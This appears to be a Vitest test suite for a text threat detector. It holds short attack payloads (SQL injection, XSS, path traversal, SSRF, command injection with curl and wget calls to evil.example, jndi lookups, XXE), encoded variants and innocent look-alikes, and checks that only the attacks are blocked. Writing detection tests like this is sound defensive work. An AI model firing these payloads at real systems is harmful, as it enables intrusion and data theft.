import { describe, expect, it } from 'vitest'
import { assessText, blockAt, type ThreatKind } from './index.ts'

/** Keeps what looks like a template out of a plain string. */
const dollar = (text: string) => `$${text}`

const attacks: Record<ThreatKind, readonly string[]> = {
  sql_injection: [
    'union select',
    "' or '1'='1",
    "admin'--",
    '1 or 1=1',
    "1')) union all select null,null#",
    '-1 /*!50000union*/ /*!50000select*/ 1,2',
    '1;drop table users--',
    "'; waitfor delay '0:0:5'--",
    '1 and ascii(substr(database(),1,1))>64',
    'select password from users',
    "1' procedure analyse()--",
    '") or ("a"="a',
    "x'||(select 'a' from dual)||'",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<svg/onload=alert`1`>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    "';alert(1)//",
    '<div style="width: expression(alert(1))">',
    '<iframe srcdoc="x">',
    'top["al"+"ert"](1)',
    'javascript:alert(document.cookie)',
    '+ADw-script+AD4-alert(1)',
  ],
  path_traversal: [
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '....//....//etc/hosts',
    '/etc/./passwd',
    'php://filter/read=x',
    '/..0x2f..0x2fsecret',
    'file:///etc/shadow',
  ],
  command_injection: [
    '; cat /etc/hosts',
    '|id',
    '`curl -L http://evil.example`',
    '$(whoami)',
    'x;wget http://evil.example/a.sh',
    ";w'h'o'am'i",
    'cat$IFS/tmp/x',
    '{cat,/tmp/x}',
    '/???/c?t /tmp/x',
    '() { :;}; echo 1',
    'powershell -enc AAAA',
    '& dir c:\\',
  ],
  ssrf: [
    'http://169.254.169.254/latest/',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://0177.0.0.1/',
    'gopher://127.0.0.1:6379/_x',
    'http://localhost:6379/',
  ],
  template_injection: [
    '{{7*7}}',
    dollar('{7*7}'),
    '<%= 7*7 %>',
    "{{''.__class__}}",
    dollar('{jndi:ldap://evil.example/a}'),
    dollar(`{${dollar('{lower:j}')}ndi:rmi://evil.example}`),
    '<#assign a="b">',
  ],
  header_injection: ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: http://evil.example'],
  nosql_injection: ['{"$gt": ""}', "true, $where: '1 == 1'", "' && this.password.match(/.*/)//", 'db.users.find({})'],
  xxe: ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">', '<xi:include href="x"/>'],
  ldap_injection: ['*)(uid=*))(|(uid=*', '(&(objectClass=*)(cn=a))', 'admin)(|(password=*))'],
  code_injection: [
    '<?php echo 1; ?>',
    "system('ls')",
    "require('child_process')",
    'Runtime.getRuntime().exec("x")',
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    '<!--#exec cmd="ls" -->',
    '__import__("os").system("x")',
  ],
  mail_injection: ['x\r\nRCPT TO:<a@b.example>', 'V100 CAPABILITY', 'a@b.example\nbcc: c@d.example'],
  prototype_pollution: ['__proto__[admin]', 'constructor.prototype.x'],
  scanner: ['http://abc.oast.me/x', 'http://x.burpcollaborator.net'],
}

const innocent: readonly string[] = [
  "O'Reilly",
  "D'Angelo & Sons; O'Brien, L'Oréal",
  'Tom & Jerry; drop by the office',
  'The union select committee met on Tuesday',
  'select a colour from the menu',
  '(select one)',
  'Please insert into the form your name, then delete from the list those who left',
  'create table reservations for 5, order by 5 pm',
  "Rock 'n' Roll",
  `5' 6" tall, 12' x 15' room`,
  "it's 50% off -- today only!",
  'The price is $5 or 10 = 2 for 1',
  'revenue > 5M and cost < 3M',
  'I <3 this! x<y, 5 > 3',
  '<b>Hello</b> <i>world</i><br/>',
  '<a href="https://example.com/offer">Our offer</a>',
  'JavaScript: The Good Parts',
  'alert (see below) and confirm (by Friday)',
  'Hello {{first_name}}, your order {{order.number}} is ready',
  'name;date;time;id',
  'A; B; C; find; more; sort',
  'head of sales | type of customer',
  '*bold* _italic_ `code` and `npm install` in a sentence of words',
  'see ../appendix for details',
  'C:\\Users\\john\\Documents',
  "'quoted' and 'other' or \"both\"",
  '"OR" is a conjunction',
  'https://crm.example.com/crm/leads?view=open',
  '日本語のテキスト',
  'bcc: jane@example.com',
  '+353 1 234 5678',
  '0b6f2c1e-7a40-4ad5-9c55-0f8f6b3f2d11',
]

describe.each(Object.entries(attacks))('%s', (kind, texts) => {
  it.each(texts)('sees %j', (text) => {
    const { score, reasons } = assessText(text)
    expect(score).toBeGreaterThanOrEqual(blockAt)
    expect(reasons.map((reason) => reason.kind)).toContain(kind)
  })
})

describe('what people write', () => {
  it.each(innocent)('passes %j', (text) => {
    expect(assessText(text).score).toBeLessThan(blockAt)
  })
})

describe('decoding', () => {
  const script = '<script>alert(1)</script>'
  const percent = (text: string) => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
  it.each([
    ['percent', percent(script)],
    ['percent twice', percent(percent(script))],
    ['percent three times', percent(percent(percent(script)))],
    ['%u', '%u003cscript%u003ealert(1)'],
    ['entities', '&lt;script&gt;alert(1)'],
    ['numeric entities without semicolons', '&#60script&#62alert(1)'],
    ['\\u', '\\u003cscript\\u003ealert(1)'],
    ['\\x', '\\x3cscript\\x3ealert(1)'],
    ['full width', '\uff1cscript\uff1ealert(1)'],
    ['base64', Buffer.from(script).toString('base64')],
    ['base64 of percent', Buffer.from(percent(script)).toString('base64')],
    ['base64 without padding', Buffer.from("' union select 1").toString('base64').replaceAll('=', '')],
    ['overlong UTF-8', '%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd'],
    ['plus signs', "'+union+select+1,2--"],
  ])('undoes %s', (_name, text) => {
    expect(assessText(text).score).toBeGreaterThanOrEqual(blockAt)
  })

  it('bounds what a reason shows', () => {
    const [reason] = assessText(`<script>${'\u0007x'.repeat(500)}`).reasons
    expect(reason?.what.length).toBeLessThan(120)
    expect(reason?.what).toMatch(/^[\x20-\x7e]*$/)
  })
})

describe('sizes', () => {
  const kilobyte = 1024
  it.each([8, 16, 64, 128])('finds an attack behind %i kB of padding', (size) => {
    const padding = 'A'.repeat(size * kilobyte)
    for (const attack of ["' UNION SELECT username || ':' || password FROM users", ';<script>alert(1);</script>', ";$(printf 'x'|rev)"]) {
      expect(assessText(padding + attack).score).toBeGreaterThanOrEqual(blockAt)
      expect(assessText(padding + attack + padding).score).toBeGreaterThanOrEqual(blockAt)
    }
  })

  // A pattern that backtracks would run into the time limit of the test.
  it.each(["'", '<a ', '../', '\r\n', '; cat ', '{{', '$(', "a''", "' or ", 'select ', '<!doctype ', 'x.y', '&#', '%25', '((', '1=1 ', '`a` '])(
    'ends on 64 kB of %j',
    (unit) => {
      expect(assessText(`${unit.repeat(Math.ceil((64 * kilobyte) / unit.length))}!`).score).toBeLessThanOrEqual(100)
    },
  )
})
